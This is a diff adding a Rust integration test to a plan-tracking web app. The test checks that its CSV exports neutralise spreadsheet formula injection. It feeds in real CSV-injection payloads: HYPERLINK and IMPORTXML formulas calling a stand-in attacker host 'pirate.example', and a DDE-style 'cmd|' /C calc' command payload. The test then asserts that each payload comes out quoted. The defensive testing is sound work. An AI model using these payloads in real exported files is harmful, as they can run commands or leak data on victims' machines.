@@ -6,6 +6,7 @@
 use axum::http::StatusCode;
 use sqlx::PgPool;
 
+use crate::import::upload;
 use crate::support::{Client, Page, app, demo_pool};
 
 const ENTRY: &str = "/organisations/office-habitat/plans/spaser-2025-2027/saisie/2025";
@@ -50,6 +51,167 @@ fn field_value(page: &Page, name: &str) -> Option<String> {
         .select(&selector)
         .next()
         .and_then(|e| e.value().attr("value").map(str::to_string))
+}
+
+fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
+    let text = std::str::from_utf8(bytes)
+        .unwrap()
+        .trim_start_matches('\u{FEFF}');
+    csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect()
+}
+
+/// No cell begins with what a spreadsheet reads as a formula.
+fn assert_no_formula(name: &str, rows: &[Vec<String>]) {
+    for row in rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{name}: a cell a spreadsheet would run: {cell:?}"
+            );
+        }
+    }
+}
+
+// Item 6: formulas typed by users or carried by an imported file are neutralised in every CSV.
+#[tokio::test]
+async fn csv_exports_carry_no_formula() {
+    let pool = demo_pool().await;
+    let app = app(&pool);
+    let mut admin = Client::signed_in(&app, "admin@office-habitat.demo").await;
+    let mut staff = Client::signed_in(&app, "commande-publique@office-habitat.demo").await;
+    // A plan whose file carries formulas in its labels and pilots.
+    let hostile = "N° AXE;AXE;N° Objectif;OBJECTIFS;N° ACTION;ACTIONS;Indicateurs;Type d'indicateur;Valeurs cibles;Qui pilote cet indicateur ?\n\
+                   1;=HYPERLINK(\"http://pirate.example/\",\"Cliquez\");1;+SUM(1,2);1;@SUM(A1:A9);-2+3+cmd|' /C calc'!A0;Quanti (chiffre);2025: 5 2026: 6;=1+1\n";
+    admin.get("/organisations/office-habitat/import").await;
+    let sent = upload(
+        &mut admin,
+        "office-habitat",
+        hostile.as_bytes(),
+        "piege.csv",
+        &[
+            ("titre", "Plan piégé"),
+            ("premiere_annee", "2025"),
+            ("derniere_annee", "2026"),
+        ],
+        true,
+    )
+    .await;
+    assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.body);
+    let committed = admin.post(sent.location().unwrap(), &[]).await;
+    assert_eq!(
+        committed.status,
+        StatusCode::SEE_OTHER,
+        "{}",
+        committed.body
+    );
+    let plan = "/organisations/office-habitat/plans/plan-piege";
+    let id = sqlx::query_scalar::<_, i64>(
+        "SELECT i.id FROM indicator i JOIN plan p ON p.id = i.plan_id WHERE p.slug = 'plan-piege'",
+    )
+    .fetch_one(&pool)
+    .await
+    .unwrap()
+    .to_string();
+    let action = sqlx::query_scalar::<_, i64>(
+        "SELECT a.id FROM action a JOIN plan p ON p.id = a.plan_id WHERE p.slug = 'plan-piege'",
+    )
+    .fetch_one(&pool)
+    .await
+    .unwrap()
+    .to_string();
+    // Texts typed in the entry form, validated, the plan published.
+    let entry = format!("{plan}/saisie/2025");
+    staff.get(&entry).await;
+    let saved = staff
+        .post(
+            &entry,
+            &[
+                (&format!("ver-{id}"), "0"),
+                (&format!("v-{id}"), "5"),
+                (
+                    &format!("t-{id}"),
+                    "=IMPORTXML(\"http://pirate.example/\";\"//a\")",
+                ),
+                (&format!("c-{id}"), "+33 1 23 45 67 89"),
+                (&format!("rver-{action}"), "0"),
+                (&format!("r-{action}"), "@cmd"),
+            ],
+        )
+        .await;
+    assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);
+    staff.get(&entry).await;
+    assert_eq!(
+        staff
+            .post(
+                &format!("{entry}/actions/{action}/circuit"),
+                &[("transition", "valider")]
+            )
+            .await
+            .status,
+        StatusCode::SEE_OTHER
+    );
+    admin.get(plan).await;
+    assert_eq!(
+        admin
+            .post(
+                &format!("{plan}/publication"),
+                &[("publication", "publier")]
+            )
+            .await
+            .status,
+        StatusCode::SEE_OTHER
+    );
+
+    let mut visitor = Client::new(&app);
+    for (name, client, path) in [
+        (
+            "bilan.csv (membres)",
+            &mut staff,
+            format!("{plan}/bilan/2025/bilan.csv"),
+        ),
+        (
+            "bilan.csv (public)",
+            &mut visitor,
+            "/public/office-habitat/plan-piege/bilan/2025/bilan.csv".to_string(),
+        ),
+        ("plan.csv", &mut admin, format!("{plan}/export/plan.csv")),
+    ] {
+        let (status, bytes, _) = client.get_bytes(&path).await;
+        assert_eq!(status, StatusCode::OK, "{name}");
+        let rows = csv_cells(&bytes);
+        assert_no_formula(name, &rows);
+        let all: Vec<&String> = rows.iter().flatten().collect();
+        assert!(
+            all.iter().any(|c| c.as_str() == "'-2+3+cmd|' /C calc'!A0"),
+            "{name}: the text is kept, quoted: {all:?}"
+        );
+        assert!(all.iter().any(|c| c.as_str() == "'@SUM(A1:A9)"), "{name}");
+        if name.starts_with("bilan") {
+            assert!(
+                all.iter()
+                    .any(|c| c.as_str() == "'=IMPORTXML(\"http://pirate.example/\";\"//a\")"),
+                "{name}: {all:?}"
+            );
+            assert!(all.iter().any(|c| c.as_str() == "'@cmd"), "{name}");
+        }
+    }
+    // The plan's CSV still reads back as the same plan.
+    let (_, bytes, _) = admin.get_bytes(&format!("{plan}/export/plan.csv")).await;
+    let rows = spaser::import::read_table(&bytes, "plan.csv").unwrap();
+    let draft = spaser::domain::sheet::read_plan(&rows, 2025, 2026)
+        .unwrap()
+        .draft;
+    let action = &draft.objectives[0].actions[0];
+    assert_eq!(draft.objectives[0].label, "+SUM(1,2)");
+    assert_eq!(action.label, "@SUM(A1:A9)");
+    assert_eq!(action.indicators[0].label, "-2+3+cmd|' /C calc'!A0");
 }
 
 // Item 9: an indicator with pilots of its own is written only by them (and procurement staff).
